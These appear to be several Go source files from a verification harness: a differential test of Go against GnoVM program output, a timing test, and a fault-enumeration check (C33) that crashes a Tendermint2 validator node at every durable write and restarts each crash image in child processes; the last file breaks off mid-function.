	// report findings deterministically, with a minimal (single-snippet) reproduction for the first of each key
	sort.Slice(findings, func(i, j int) bool {
		if findings[i].key != findings[j].key {
			return findings[i].key < findings[j].key
		}
		return findings[i].p.ID < findings[j].p.ID
	})
	seenKey := map[string]int{}
	minimized := 0
	for _, f := range findings {
		seenKey[f.key]++
		if seenKey[f.key] > 3 {
			continue // further occurrences of the same key are only counted (mismatch_keys)
		}
		w := map[string]any{
			"program_id": f.p.ID, "snippet": f.d.snippet, "tag": f.d.tag, "first_diff_line": f.d.line,
			"go_line": f.d.goLine, "gno_line": f.d.gnoLine, "gno_kind": f.res.Kind, "gno_error": truncate(f.res.Error, 600),
		}
		minp := f.p
		if f.d.snippet >= 0 && f.d.snippet < len(f.p.Snips) && seenKey[f.key] == 1 && minimized < 8 {
			minimized++
			one := f.p.Only(f.d.snippet)
			out, _, rej, err := gs.buildAndRun(filepath.Join(c.WorkDir, fmt.Sprintf("min%03d", minimized)), []*goprog.Program{one})
			if err == nil && len(rej) == 0 {
				res := pool.run("min.gno", one.GnoFile())
				gout := res.Output
				if bi := strings.Index(gout, "\n"); bi >= 0 {
					gout = gout[bi+1:]
				}
				if ei := strings.Index(gout, "#END"); ei >= 0 {
					gout = gout[:ei]
				}
				got := normalize(gnoRules, gout, nil)
				if res.Panicked {
					got = append(got, fmt.Sprintf("<gnovm %s: %s>", res.Kind, firstLine(res.Error)))
				}
				if d2 := compare(out[one.ID], got); d2 != nil {
					minp = one
					w["minimal"] = true
					w["go_output"] = out[one.ID]
					w["gno_output"] = got
				}
			}
		}
		if w["minimal"] == nil {
			w["go_output"] = window(f.goO, f.d.line)
			w["gno_output"] = window(f.gnO, f.d.line)
		}
		w["program"] = minp.GnoFile()[len("package main\n\n")+len(goprog.Prelude):] // program text without the shared prelude
		c.Violation(f.key, w, "Go and GnoVM disagree in snippet %d (%s) of program %d at output line %d: go=%q gno=%q", f.d.snippet, f.d.tag, f.p.ID, f.d.line, f.d.goLine, f.d.gnoLine)
	}

	if len(seenKey) > 0 {
		c.Set("mismatch_keys", seenKey)
		keys := make([]string, 0, len(seenKey))
		for k := range seenKey {
			keys = append(keys, fmt.Sprintf("%s x%d", k, seenKey[k]))
		}
		sort.Strings(keys)
		c.Logf("differing programs by key: %s", strings.Join(keys, "; "))
	}
	c.Count("programs_differing", len(findings))

	// evidence
	for k, v := range famCount {
		c.Count("family_"+k, v)
	}
	for k, v := range goClasses {
		if !strings.HasPrefix(k, "unclassified:") && !strings.HasPrefix(k, "text:") {
			c.Count("go_panic_class_"+k, v)
		} else if strings.HasPrefix(k, "unclassified:") {
			c.Count("go_panic_unclassified", v)
		}
	}
	for k, v := range gnoClasses {
		if !strings.HasPrefix(k, "unclassified:") && !strings.HasPrefix(k, "text:") {
			c.Count("gno_panic_class_"+k, v)
		} else if strings.HasPrefix(k, "unclassified:") {
			c.Count("gno_panic_unclassified", v)
		}
	}
	if len(progs) > 0 {
		p := progs[0]
		c.Sample(map[string]any{"program_id": p.ID, "first_snippet": p.Snips[0].Tag, "body": truncate(p.Snips[0].Body, 400)})
		p = progs[len(progs)/2]
		c.Sample(map[string]any{"program_id": p.ID, "first_snippet": p.Snips[0].Tag, "body": truncate(p.Snips[0].Body, 400)})
	}
	c.Assume("the Go 1.25.9 toolchain (amd64, go.mod `go 1.25`: per-iteration loop variables) is the reference semantics")
	c.Assume("panic values of run-time errors are compared by class (message wording differs by design); constructs the compatibility document lists as different are not generated (map order consumed through sorted keys, no cap() of string conversions or after growth, no zero-size pointer equality)")
	c.Assume("output protocol relies on println(string), strconv.FormatInt/FormatUint/FormatBool/Quote and math.Float64bits/Float32bits behaving identically (Gno stdlib ports / native bindings)")

	c.Require("programs_compared", c.Counter("programs_compared"), int64(total*95/100))
	c.Require("generator_acceptance", int64(total-len(rejected)), int64(total*97/100))
	c.Require("gno_completed_within_gas", c.Counter("programs_compared")-c.Counter("gno_out_of_gas"), int64(total*95/100))
	for _, f := range goprog.Families() {
		c.RequireCounter("family_"+f, int64(c.N(8, 200)))
	}
	for _, cl := range []string{"div-by-zero", "index-out-of-range", "nil-deref", "type-assertion", "negative-shift", "slice-bounds", "nil-map-write"} {
		c.RequireCounter("go_panic_class_"+cl, int64(c.N(3, 50)))
	}
	c.RequireCounter("programs_go_panicked_at_top_level", int64(c.N(20, 1000)))
}

func firstLine(s string) string {
	if i := strings.Index(s, "\n"); i >= 0 {
		return s[:i]
	}
	return s
}

func window(ls []string, at int) []string {
	lo, hi := at-6, at+3
	if lo < 0 {
		lo = 0
	}
	if hi > len(ls) {
		hi = len(ls)
	}
	return ls[lo:hi]
}
