package c04

import (
	"math/rand/v2"
	"testing"
	"time"

	"verifharness/checks/c04/gnorun"
	"verifharness/checks/c04/goprog"
)

func TestTiming(t *testing.T) {
	t0 := time.Now()
	r, err := gnorun.New("math", "strconv")
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("new: %v", time.Since(t0))
	for i := 0; i < 12; i++ {
		p := goprog.Generate(i, rand.New(rand.NewPCG(1, uint64(i))))
		src := p.GnoFile()
		t1 := time.Now()
		res := r.Run("p.gno", src, 2_000_000_000)
		t.Logf("prog %d: %v gas=%d kind=%s bytes=%d", i, time.Since(t1), res.Gas, res.Kind, len(src))
	}
}
