// Package c33: a node recovers from a crash at any point of block processing.
//
// Fault enumeration. One single-validator node is assembled from the real
// components (ConsensusState with its real receiveRoutine and timers,
// BlockExecutor, BlockStore, state store, mempool, the real file WAL and the
// real file PrivValidator) and really started. Every durable medium sits behind
// a wrapper; all wrappers share one lock and one unit counter. While the node
// commits H heights, a crash image is taken after EVERY durable unit: the three
// databases, the WAL directory as it is on disk at that instant (unflushed bytes
// are lost), the sign-state file. Each image is then restarted in a child
// process the way a node starts: Handshake with the application, consensus start
// with WAL catch-up, and it has to commit two more heights.
package c33

import (
	"bytes"
	"encoding/gob"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	sm "github.com/gnolang/gno/tm2/pkg/bft/state"
	"github.com/gnolang/gno/tm2/pkg/bft/store"
	"github.com/gnolang/gno/tm2/pkg/bft/types"
	"github.com/gnolang/gno/tm2/pkg/db/memdb"

	"verifharness/internal/vf"
)

func init() {
	vf.Register(&vf.Check{
		ID:    "C33",
		Level: "fault_enumeration",
		Rule: "case = (scenario, crash point k) where k ranges over ALL durable units (every single db write of block store / state store / application db, every WAL Write/WriteSync/WriteMetaSync/FlushAndSync, " +
			"every privval signing call) performed by a really started single-validator node while it commits H heights (one of them through round 1); each case restarts a fresh node from the crash image taken right after unit k " +
			"(real Handshaker + consensus start with WAL catch-up) in a child process and lets it commit 2 more heights; non-trivial = the image differs from the image of the previous unit in some medium; distinct by (scenario, k, medium, kind)",
		Run: run,
	})
	vf.Register(&vf.Check{ID: "C33CHILD", Rule: "child worker of C33 (not a property check)", Run: child})
}

var stages = []string{"genesis", "before-block-saved", "block-saved-marker-missing", "marker-written-app-not-committed", "app-committed-state-not-saved", "state-saved"}

// imageMeta describes one crash image (serialised for the child).
type imageMeta struct {
	K                                 int     `json:"k"`
	Unit                              unitRec `json:"crash_after_unit"`
	BlockV, StateV, AppV, WalV, PvV   int
	StoreH, StateH, AppH, MarkerH     int64
	SigPrefix                         int
	Stage                             string `json:"stage"`
	Changed                           bool
	WalMsgsAfterMarker                int
	LastSigned                        string `json:"last_signed,omitempty"`
}

type failure struct {
	Key string `json:"key"`
	Msg string `json:"msg"`
}

type result struct {
	K               int        `json:"k"`
	Failures        []failure  `json:"failures,omitempty"`
	Inconclusive    string     `json:"inconclusive,omitempty"`
	HandshakeBlocks int        `json:"handshake_blocks"`
	CatchupErr      bool       `json:"catchup_err"`
	CatchupMsgs     int        `json:"catchup_msgs"`
	StartHeight     int64      `json:"start_height"`
	FinalHeight     int64      `json:"final_height"`
	MaxRound        int        `json:"max_round"`
	SigsCompared    int        `json:"sigs_compared"`
	SameHRSResigns  int        `json:"same_hrs_resigns"`
	TimestampOnly   int        `json:"timestamp_only_resigns"`
	Refused         int        `json:"sign_refused"`
	BlocksReplayed  int        `json:"blocks_replayed_in_fresh_app"`
	RecSigs         []sigEntry `json:"recovery_signatures,omitempty"`
	Logs            []string   `json:"logs,omitempty"`
	Ms              int64      `json:"ms"`
}

func classify(storeH, stateH, appH, markerH int64, signedNext bool) string {
	ended := markerH - 1 // height whose ENDHEIGHT line is on disk
	switch {
	case ended > storeH:
		return "anomalous:endheight-on-disk-block-not-stored"
	case storeH == stateH && appH == stateH:
		if storeH == 0 && !signedNext {
			return "genesis"
		}
		if storeH > 0 && ended < storeH {
			return "anomalous:state-saved-but-endheight-missing"
		}
		if signedNext {
			return "before-block-saved"
		}
		return "state-saved"
	case storeH == stateH+1 && appH == stateH:
		if ended >= storeH {
			return "marker-written-app-not-committed"
		}
		return "block-saved-marker-missing"
	case storeH == stateH+1 && appH == storeH:
		if ended >= storeH {
			return "app-committed-state-not-saved"
		}
		return "anomalous:app-committed-but-endheight-missing"
	}
	switch {
	case stateH > storeH:
		return "anomalous:state-ahead-of-store"
	case appH > storeH:
		return "anomalous:app-ahead-of-store"
	case storeH == stateH && appH < stateH:
		return "anomalous:state-saved-app-not-committed"
	}
	return "anomalous:other"
}

func stageKey(s string) string {
	return strings.Replace(s, "anomalous:", "anomalous-", 1)
}

func run(c *vf.Ctx) {
	nScen := c.N(1, 6)
	for si := 0; si < nScen; si++ {
		runScenario(c, si)
	}
	c.SetExhaustive(true)
	c.Assume("crash model: the process stops between two durable units; a single db write is atomic and db writes become durable in program order (no lost unsynced db writes, no reordering); the WAL directory and the sign-state file are copied as they are on disk at that instant, bytes still in the WAL's user-space buffer are lost; tearing inside one write(2) is not modelled")
	c.Assume("the periodic 2 s WAL flush is disabled in the reference run (the most hostile legal timing: the kill arrives before the ticker)")
	c.Assume("one validator, no peers: every consensus message is the node's own; recovery of a node that crashes again during recovery is not enumerated")
	c.Assume("the application is the harness's own persistent ABCI app (one db write per Commit); mempool content is lost at a crash, as without a mempool WAL")
	heights := int64(c.N(3, 8) * nScen)
	c.Require("crash_points_covered == crash_points_total", boolInt(c.Counter("crash_points_covered") == c.Counter("crash_points_total")), 1)
	for _, st := range stages[1:] {
		c.RequireCounter("images_at_stage:"+st, heights)
	}
	c.RequireCounter("images_at_stage:genesis", 1)
	c.RequireCounter("recoveries_with_handshake_replay_of_1_block", heights)
	c.RequireCounter("recoveries_with_handshake_replay_of_0_blocks", heights)
	c.RequireCounter("recoveries_with_wal_catchup_messages", heights)
	c.RequireCounter("signatures_compared", 20*heights)
	c.RequireCounter("same_hrs_resign_answered_from_sign_state", 1)
	c.RequireCounter("crash_points_in_round_gt_0", 3)
	c.RequireCounter("units:wal", 5*heights)
	c.RequireCounter("units:privval", 3*heights)
	c.RequireCounter("units:blockdb", 5*heights)
	c.RequireCounter("units:statedb", 3*heights)
	c.RequireCounter("units:appdb", heights)
}

func boolInt(b bool) int64 {
	if b {
		return 1
	}
	return 0
}

type versions[T any] struct {
	list []T
	same func(a, b T) bool
}

func (v *versions[T]) put(x T) (idx int, changed bool) {
	if n := len(v.list); n > 0 && v.same(v.list[n-1], x) {
		return n - 1, false
	}
	v.list = append(v.list, x)
	return len(v.list) - 1, true
}

func runScenario(c *vf.Ctx, si int) {
	H := int64(c.N(3, 8))
	scenSeed := c.Seed*10 + int64(si)
	rng := c.Rng(uint64(3300 + si))
	dir := filepath.Join(c.WorkDir, fmt.Sprintf("s%d", si))
	refDir := filepath.Join(dir, "ref")
	os.MkdirAll(refDir, 0o700)
	_, priv := genesis(scenSeed)
	writeKeyFile(filepath.Join(refDir, "pv_key.json"), priv)

	// txs per height (decided by the seed, fed on the NewBlock event of the previous height)
	txPlan := map[int64]int{}
	for h := int64(1); h <= H+1; h++ {
		txPlan[h] = rng.IntN(4)
	}
	txPlan[1+int64(rng.IntN(int(H)))] = 0 // at least one empty block
	txPlan[2] = 2                         // the round-1 height carries txs (its round-0 lock/propose paths matter)
	failProposal := map[int64]bool{2: true}
	if !c.Quick() {
		h2 := int64(4 + rng.IntN(4)) // a second round-1 height, somewhere in 4..7
		failProposal[h2] = true
		txPlan[h2] = 1 + rng.IntN(3)
	}

	w := &world{}
	bases := map[string]*memdb.MemDB{"blockdb": memdb.NewMemDB(), "statedb": memdb.NewMemDB(), "appdb": memdb.NewMemDB()}
	blockDB, stateDB, appDB := recordedDB(w, "blockdb", bases["blockdb"]), recordedDB(w, "statedb", bases["statedb"]), recordedDB(w, "appdb", bases["appdb"])
	sig := &sigLog{phase: "ref"}
	logs := &logCap{}
	anom := &anomalies{}

	dbV := map[string]*versions[[]kv]{}
	for _, m := range []string{"blockdb", "statedb", "appdb"} {
		dbV[m] = &versions[[]kv]{same: sameKVs}
	}
	walV := &versions[map[string][]byte]{same: sameFiles}
	pvV := &versions[[]byte]{same: bytes.Equal}
	var images []imageMeta
	takeImage := func(u unitRec) {
		im := imageMeta{K: u.Index, Unit: u}
		var ch [5]bool
		im.BlockV, ch[0] = dbV["blockdb"].put(dumpDB(bases["blockdb"]))
		im.StateV, ch[1] = dbV["statedb"].put(dumpDB(bases["statedb"]))
		im.AppV, ch[2] = dbV["appdb"].put(dumpDB(bases["appdb"]))
		files := readDir(filepath.Join(refDir, "wal"))
		im.WalV, ch[3] = walV.put(files)
		pvb, _ := os.ReadFile(filepath.Join(refDir, "pv_state.json"))
		im.PvV, ch[4] = pvV.put(pvb)
		im.Changed = ch[0] || ch[1] || ch[2] || ch[3] || ch[4]
		im.StoreH = store.LoadBlockStoreStateJSON(bases["blockdb"]).Height
		im.StateH = sm.LoadState(bases["statedb"]).LastBlockHeight
		ast, _ := loadAppState(bases["appdb"])
		im.AppH = ast.Height
		im.MarkerH, im.WalMsgsAfterMarker, _ = walStats(files)
		sig.mu.Lock()
		im.SigPrefix = len(sig.entries)
		signedNext := false
		if n := len(sig.entries); n > 0 {
			last := sig.entries[n-1]
			signedNext = last.H > im.StoreH
			im.LastSigned = fmt.Sprintf("%s %d/%d", last.Type, last.H, last.R)
		}
		sig.mu.Unlock()
		im.Stage = classify(im.StoreH, im.StateH, im.AppH, im.MarkerH, signedNext)
		images = append(images, im)
	}
	w.mu.Lock()
	takeImage(unitRec{Index: -1, Medium: "none", Kind: "none", Detail: "before the node is assembled"})
	w.snap = takeImage
	w.mu.Unlock()

	refHashes := map[int64]string{}
	var hmu sync.Mutex
	reached := make(chan struct{})
	var once sync.Once
	txSeq := 0
	feed := func(h int64, n *node) { // txs for block h
		for i := 0; i < txPlan[h]; i++ {
			txSeq++
			tx := types.Tx(fmt.Sprintf("k%d=v%d-%d", txSeq%5, h, txSeq))
			if err := n.mempool.CheckTx(tx, nil); err != nil {
				c.Logf("CheckTx: %v", err)
			}
		}
	}
	var nd *node
	var err error
	pv := vf.Try(func() {
		nd, err = startNode(nodeOpts{seed: scenSeed, dir: refDir, blockDB: blockDB, stateDB: stateDB, appDB: appDB, w: w, sig: sig, logs: logs, anom: anom,
			failProposal: failProposal,
			onBlock: func(h int64, n *node) {
				hmu.Lock()
				refHashes[h] = fmt.Sprintf("%X", n.bs.LoadBlockMeta(h).BlockID.Hash)
				hmu.Unlock()
				if h >= H {
					once.Do(func() { close(reached) })
					return
				}
				feed(h+1, n)
			}})
	})
	if pv != nil || err != nil {
		panic(fmt.Sprintf("C33 reference node did not start: %v %v", pv, err))
	}
	// txs of height 1 go in right after start (round 0 of height 1 starts TimeoutCommit later)
	feed(1, nd)
	select {
	case <-reached:
	case <-nd.halted:
		c.Inconclusive(fmt.Sprintf("scenario %d: the reference node halted before height %d: %v", si, H, logs.get()))
		return
	case <-time.After(120 * time.Second):
		nd.stop()
		c.Inconclusive(fmt.Sprintf("scenario %d: the reference node did not reach height %d within 120 s (store height %d)", si, H, nd.bs.Height()))
		return
	}
	nd.stop()
	w.mu.Lock()
	w.snap = nil
	units := append([]unitRec(nil), w.units...)
	w.mu.Unlock()
	if a := anom.get(); len(a) > 0 {
		panic(fmt.Sprintf("C33 reference run: application anomalies without any crash: %v", a))
	}
	refSigs := append([]sigEntry(nil), sig.entries...)
	c.Logf("scenario %d: reference run committed %d heights, %d durable units, %d images, %d signatures, versions: block %d state %d app %d wal %d pv %d",
		si, nd.bs.Height(), len(units), len(images), len(refSigs), len(dbV["blockdb"].list), len(dbV["statedb"].list), len(dbV["appdb"].list), len(walV.list), len(pvV.list))

	// ---- evidence about the reference run
	for _, u := range units {
		c.Count("units:"+u.Medium, 1)
		c.Count("units:"+u.Medium+"/"+u.Kind, 1)
	}
	c.Count("reference_heights_committed", int(nd.bs.Height()))
	c.Count("reference_signatures", len(refSigs))
	c.Count("reference_sign_requests_refused_or_failed", sig.refused)
	for _, e := range refSigs {
		if e.R > 0 {
			c.Count("reference_signatures_in_round_gt_0", 1)
		}
	}
	sigRound := func(prefix int) int {
		if prefix == 0 {
			return 0
		}
		return refSigs[prefix-1].R
	}
	for i := range images {
		im := &images[i]
		c.Count("crash_points_total", 1)
		c.Count("images_at_stage:"+stageKey(im.Stage), 1)
		if sigRound(im.SigPrefix) > 0 && im.Stage == "before-block-saved" {
			c.Count("crash_points_in_round_gt_0", 1)
		}
	}
	if si == 0 {
		var us []string
		for _, u := range units[:min(len(units), 60)] {
			us = append(us, fmt.Sprintf("%d %s/%s %s", u.Index, u.Medium, u.Kind, u.Detail))
		}
		c.Sample(map[string]any{"scenario": si, "heights": H, "tx_plan": fmt.Sprint(txPlan), "first_units": us})
	}

	// ---- write the images
	imgDir := filepath.Join(dir, "img")
	os.MkdirAll(imgDir, 0o700)
	for m, v := range dbV {
		for i, kvs := range v.list {
			writeGob(filepath.Join(imgDir, fmt.Sprintf("%s-%d.gob", m, i)), kvs)
		}
	}
	for i, files := range walV.list {
		writeDir(filepath.Join(imgDir, fmt.Sprintf("wal-%d", i)), files)
	}
	for i, b := range pvV.list {
		os.WriteFile(filepath.Join(imgDir, fmt.Sprintf("pv-%d.json", i)), b, 0o600)
	}
	kb, _ := os.ReadFile(filepath.Join(refDir, "pv_key.json"))
	os.WriteFile(filepath.Join(imgDir, "pv_key.json"), kb, 0o600)
	writeJSON(filepath.Join(imgDir, "images.json"), images)
	writeJSON(filepath.Join(imgDir, "refsigs.json"), refSigs)
	writeJSON(filepath.Join(imgDir, "refhashes.json"), refHashes)
	writeJSON(filepath.Join(imgDir, "scenario.json"), map[string]any{"seed": scenSeed})

	// ---- recover every image, in child processes
	nChildren := 8
	batches := make([][]int, nChildren)
	for i := range images {
		batches[i%nChildren] = append(batches[i%nChildren], i)
	}
	results := make([]*result, len(images))
	died := make([]string, len(images))
	c.Parallel(nChildren, nChildren, 0, func(bi int, _ *rand.Rand) {
		runBatch(c, si, bi, imgDir, batches[bi], results, died)
	})

	// ---- judge
	for i := range images {
		im := images[i]
		c.Case(fmt.Sprintf("s%d/unit%d/%s/%s", si, im.K, im.Unit.Medium, im.Unit.Kind), im.Changed)
		w := map[string]any{"scenario": si, "scenario_seed": scenSeed, "heights": H, "image": im,
			"image_heights": fmt.Sprintf("store=%d state=%d app=%d wal_endheight=%d", im.StoreH, im.StateH, im.AppH, im.MarkerH-1),
			"units_before": unitsTail(units, im.K)}
		sk := stageKey(im.Stage)
		if im.StoreH == 0 && im.Stage != "genesis" {
			sk = "first-height" // no block stored yet: the chain's first height is in consensus
		}
		r := results[i]
		if r == nil {
			if died[i] == "" {
				continue // not run (watchdog/inconclusive noted by runBatch)
			}
			c.Count("crash_points_covered", 1)
			w["child_stderr_tail"] = died[i]
			c.Violation("recovery-failed:"+sk, w, "scenario %d: restarting from the crash image after unit %d (%s/%s %s; stage %s) killed the node process: %s",
				si, im.K, im.Unit.Medium, im.Unit.Kind, im.Unit.Detail, im.Stage, clip(died[i], 600))
			continue
		}
		if r.Inconclusive != "" {
			c.Inconclusive(fmt.Sprintf("scenario %d image %d (%s): %s", si, im.K, im.Stage, r.Inconclusive))
			continue
		}
		c.Count("crash_points_covered", 1)
		c.Count(fmt.Sprintf("recoveries_with_handshake_replay_of_%d_block%s", r.HandshakeBlocks, plural(r.HandshakeBlocks)), 1)
		if r.CatchupMsgs > 0 && !r.CatchupErr {
			c.Count("recoveries_with_wal_catchup_messages", 1)
			c.Count("wal_messages_replayed_at_catchup", r.CatchupMsgs)
		}
		if r.CatchupErr {
			c.Count("recoveries_where_catchup_reported_missing_endheight", 1)
		}
		if r.MaxRound > 0 {
			c.Count("recoveries_that_needed_round_gt_0", 1)
		}
		c.Count("signatures_compared", r.SigsCompared)
		c.Count("same_hrs_resign_answered_from_sign_state", r.SameHRSResigns)
		c.Count("timestamp_only_resigns", r.TimestampOnly)
		c.Count("sign_requests_refused_after_recovery", r.Refused)
		c.Count("blocks_replayed_through_fresh_app", r.BlocksReplayed)
		c.Count("heights_committed_after_recovery", int(r.FinalHeight-r.StartHeight))
		if len(r.Failures) > 0 {
			w["recovery"] = r
		}
		for _, f := range r.Failures {
			key := f.Key
			if !strings.Contains(key, ":") {
				key += ":" + sk
			}
			c.Violation(key, w, "scenario %d: crash after unit %d (%s/%s %s; stage %s; image store=%d state=%d app=%d endheight=%d; last signed %s): %s",
				si, im.K, im.Unit.Medium, im.Unit.Kind, im.Unit.Detail, im.Stage, im.StoreH, im.StateH, im.AppH, im.MarkerH-1, im.LastSigned, f.Msg)
		}
		if i%37 == 5 && len(r.Failures) == 0 {
			c.Sample(map[string]any{"scenario": si, "crash_after_unit": im.Unit, "stage": im.Stage, "handshake_blocks": r.HandshakeBlocks, "catchup_msgs": r.CatchupMsgs,
				"recovered_from_height": r.StartHeight, "final_height": r.FinalHeight, "signatures_after_recovery": len(r.RecSigs), "ms": r.Ms})
		}
	}
}

func plural(n int) string {
	if n == 1 {
		return ""
	}
	return "s"
}

func unitsTail(units []unitRec, k int) []string {
	var out []string
	for i := max(0, k-7); i <= k && i < len(units); i++ {
		u := units[i]
		out = append(out, fmt.Sprintf("%d %s/%s %s", u.Index, u.Medium, u.Kind, u.Detail))
	}
	return out
}

func clip(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[:n] + "…"
}

func writeGob(path string, v any) {
	f, err := os.Create(path)
	if err != nil {
		panic(err)
	}
	defer f.Close()
	if err := gob.NewEncoder(f).Encode(v); err != nil {
		panic(err)
	}
}

func readGob(path string, v any) {
	f, err := os.Open(path)
	if err != nil {
		panic(err)
	}
	defer f.Close()
	if err := gob.NewDecoder(f).Decode(v); err != nil {
		panic(err)
	}
}

func writeJSON(path string, v any) {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	if err := os.WriteFile(path, b, 0o600); err != nil {
		panic(err)
	}
}

func readJSON(path string, v any) {
	b, err := os.ReadFile(path)
	if err != nil {
		panic(err)
	}
	if err := json.Unmarshal(b, v); err != nil {
		panic(err)
	}
}

// runBatch runs one child over its list of images; if the child dies the image it was
// working on is marked and a new child continues with the rest.
func runBatch(c *vf.Ctx, si, bi int, imgDir string, idxs []int, results []*result, died []string) {
	pos := 0
	for pos < len(idxs) {
		base := filepath.Join(imgDir, fmt.Sprintf("batch-%d-%d", bi, pos))
		var sb strings.Builder
		for _, ix := range idxs[pos:] {
			fmt.Fprintf(&sb, "%d\n", ix)
		}
		os.WriteFile(base, []byte(sb.String()), 0o600)
		cmd := exec.Command(os.Args[0], "C33CHILD", "quick")
		cmd.Env = append(os.Environ(), "C33_DIR="+imgDir, "C33_BATCH="+base, "VERIF_OUT="+filepath.Join(c.WorkDir, "childout"), "VERIF_RACE_LOG=")
		errFile, _ := os.Create(base + ".stderr")
		cmd.Stdout, cmd.Stderr = errFile, errFile
		if err := cmd.Start(); err != nil {
			panic(err)
		}
		done := make(chan error, 1)
		go func() { done <- cmd.Wait() }()
		lastProgress, lastChange := "", time.Now()
		killed := false
	loop:
		for {
			select {
			case <-done:
				break loop
			case <-time.After(200 * time.Millisecond):
			}
			b, _ := os.ReadFile(base + ".progress")
			if cur := string(b); cur != lastProgress {
				lastProgress, lastChange = cur, time.Now()
			}
			if time.Since(lastChange) > 240*time.Second {
				killed = true
				cmd.Process.Kill()
			}
		}
		errFile.Close()
		c.Count("children_started", 1)
		nres := 0
		if f, err := os.Open(base + ".out"); err == nil {
			dec := json.NewDecoder(f)
			for {
				var r result
				if err := dec.Decode(&r); err != nil {
					break
				}
				rr := r
				results[idxs[pos+nres]] = &rr
				nres++
			}
			f.Close()
		}
		if dbg := os.Getenv("C33_DEBUG"); dbg != "" { // keep the raw child outputs for inspection
			b, _ := os.ReadFile(base + ".out")
			os.WriteFile(filepath.Join(dbg, filepath.Base(base)+".out"), b, 0o644)
			b, _ = os.ReadFile(base + ".stderr")
			os.WriteFile(filepath.Join(dbg, filepath.Base(base)+".stderr"), b, 0o644)
			b, _ = os.ReadFile(filepath.Join(imgDir, "images.json"))
			os.WriteFile(filepath.Join(dbg, "images.json"), b, 0o644)
		}
		prog, _ := os.ReadFile(base + ".progress")
		if strings.Contains(string(prog), "DONE") {
			return
		}
		if pos+nres >= len(idxs) {
			return
		}
		culprit := idxs[pos+nres]
		if killed {
			c.Inconclusive(fmt.Sprintf("scenario %d: child made no progress for 240 s at image index %d — rerun in isolation", si, culprit))
		} else {
			b, _ := os.ReadFile(base + ".stderr")
			s := string(b)
			if len(s) > 4000 {
				// keep the head of the first fatal/panic report
				if i := strings.Index(s, "panic:"); i >= 0 {
					s = s[i:]
				} else if i := strings.Index(s, "fatal error:"); i >= 0 {
					s = s[i:]
				}
				s = clip(s, 4000)
			}
			if s == "" {
				s = "(no stderr; process exited)"
			}
			died[culprit] = s
			c.Count("children_died", 1)
		}
		pos += nres + 1
	}
}

func sortedKeys[V any](m map[string]V) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
