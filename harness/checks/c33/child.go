package c33

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"runtime/debug"
	"strings"
	"time"

	abci "github.com/gnolang/gno/tm2/pkg/bft/abci/types"
	sm "github.com/gnolang/gno/tm2/pkg/bft/state"
	"github.com/gnolang/gno/tm2/pkg/bft/store"
	"github.com/gnolang/gno/tm2/pkg/bft/types"
	"github.com/gnolang/gno/tm2/pkg/db/memdb"

	"verifharness/internal/vf"
)

// child recovers the images listed in $C33_BATCH, one after the other, and writes one
// JSON result per image; "START k" is logged before each so that the parent can attribute
// a death of the process (panic in a goroutine of the code under test, os.Exit, kill).
func child(c *vf.Ctx) {
	dir, batch := os.Getenv("C33_DIR"), os.Getenv("C33_BATCH")
	var images []imageMeta
	var refSigs []sigEntry
	refHashes := map[int64]string{}
	var scen struct {
		Seed int64 `json:"seed"`
	}
	readJSON(filepath.Join(dir, "images.json"), &images)
	readJSON(filepath.Join(dir, "refsigs.json"), &refSigs)
	readJSON(filepath.Join(dir, "refhashes.json"), &refHashes)
	readJSON(filepath.Join(dir, "scenario.json"), &scen)
	lb, err := os.ReadFile(batch)
	if err != nil {
		panic(err)
	}
	prog, _ := os.OpenFile(batch+".progress", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	out, _ := os.OpenFile(batch+".out", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o644)
	for _, f := range strings.Fields(string(lb)) {
		var ix int
		fmt.Sscan(f, &ix)
		im := images[ix]
		fmt.Fprintf(prog, "START %d\n", im.K)
		prog.Sync()
		r := recoverImage(c, dir, scen.Seed, im, refSigs, refHashes)
		b, _ := json.Marshal(r)
		out.Write(append(b, '\n'))
		out.Sync()
	}
	fmt.Fprintf(prog, "DONE\n")
	prog.Sync()
	c.Case("child", true)
}

func loadKVs(path string) *memdb.MemDB {
	var kvs []kv
	readGob(path, &kvs)
	return loadDB(kvs)
}

func recoverImage(c *vf.Ctx, dir string, seed int64, im imageMeta, refSigs []sigEntry, refHashes map[int64]string) (r *result) {
	t0 := time.Now()
	r = &result{K: im.K}
	fail := func(key, format string, a ...any) {
		r.Failures = append(r.Failures, failure{Key: key, Msg: fmt.Sprintf(format, a...)})
	}
	blockDB := loadKVs(filepath.Join(dir, fmt.Sprintf("blockdb-%d.gob", im.BlockV)))
	stateDB := loadKVs(filepath.Join(dir, fmt.Sprintf("statedb-%d.gob", im.StateV)))
	appDB := loadKVs(filepath.Join(dir, fmt.Sprintf("appdb-%d.gob", im.AppV)))
	nodeDir := filepath.Join(c.WorkDir, fmt.Sprintf("rec-%d", im.K))
	os.MkdirAll(nodeDir, 0o700)
	defer os.RemoveAll(nodeDir)
	walFiles := readDir(filepath.Join(dir, fmt.Sprintf("wal-%d", im.WalV)))
	if len(walFiles) > 0 {
		writeDir(filepath.Join(nodeDir, "wal"), walFiles)
	}
	kb, _ := os.ReadFile(filepath.Join(dir, "pv_key.json"))
	os.WriteFile(filepath.Join(nodeDir, "pv_key.json"), kb, 0o600)
	if pvb, _ := os.ReadFile(filepath.Join(dir, fmt.Sprintf("pv-%d.json", im.PvV))); len(pvb) > 0 {
		os.WriteFile(filepath.Join(nodeDir, "pv_state.json"), pvb, 0o600)
	}
	// blocks the image's block store holds (hash per height), read before anything runs
	before := map[int64]string{}
	{
		bs := store.NewBlockStore(blockDB)
		for h := int64(1); h <= bs.Height(); h++ {
			if m := bs.LoadBlockMeta(h); m != nil {
				before[h] = fmt.Sprintf("%X", m.BlockID.Hash)
			}
		}
	}

	sig := &sigLog{phase: "rec"}
	logs := &logCap{}
	anom := &anomalies{}
	var nd *node
	var err error
	var stack string
	pv := func() (pv any) {
		defer func() {
			if pv = recover(); pv != nil {
				stack = string(debug.Stack())
			}
		}()
		nd, err = startNode(nodeOpts{seed: seed, dir: nodeDir, blockDB: blockDB, stateDB: stateDB, appDB: appDB, sig: sig, logs: logs, anom: anom})
